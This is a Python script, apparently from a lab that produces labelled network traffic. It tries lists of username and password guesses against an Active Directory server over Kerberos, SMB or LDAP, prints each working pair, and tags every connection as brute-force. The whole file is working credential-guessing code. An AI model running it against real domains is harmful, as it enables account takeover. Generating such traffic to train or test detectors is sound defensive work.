"""Tries passwords of users, each in connections of its own, and tells of each. The argument is JSON."""
import json
import ssl
import sys
import time

import lab_ad

want = json.loads(sys.argv[1])


def kerberos(user, password):
    import lab_krb
    lab_krb.opened.clear()
    try:
        lab_krb.login(want["server"], want["realm"], user, password)
        right = True
    except lab_krb.Refused as e:
        if e.code != lab_krb.PREAUTH_FAILED:
            raise
        right = False
    return right, list(lab_krb.opened)


def smb(user, password):
    from impacket.smbconnection import SessionError, SMBConnection
    c = SMBConnection(want["server"], want["server"], timeout=60)
    flow = lab_ad.ends(lab_ad.smb_socket(c))
    try:
        c.login(user, password, want["domain"], ntlmFallback=False)
        c.logoff()
        right = True
    except SessionError as e:
        if "STATUS_LOGON_FAILURE" not in str(e):
            raise
        right = False
    c.close()
    return right, [flow]


def ldap(user, password):
    import ldap3
    server = ldap3.Server(want["server"], use_ssl=want["tls"], tls=ldap3.Tls(validate=ssl.CERT_NONE), get_info=ldap3.NONE)
    c = ldap3.Connection(server, user="%s@%s" % (user, want["realm"].lower()), password=password)
    c.open()
    flow = lab_ad.ends(c.socket)
    right = c.bind()
    if not right and c.result["description"] != "invalidCredentials":
        sys.exit("bind: %s" % c.result)
    c.unbind()
    return right, [flow]


tries = {"python": kerberos, "impacket": smb, "ldap3": ldap}[want["tool"]]
for g in want["guesses"]:
    since = time.time_ns()
    right, flows = tries(g["user"], g["password"])
    for flow in flows:
        lab_ad.tell("probe", since, flow, g["user"])
        lab_ad.label(flow, "brute-force", *([] if right else ["login-failed"]))
    if right:
        print("found %(user)s %(password)s" % g, flush=True)
    lab_ad.pause(float(want["pause"]))
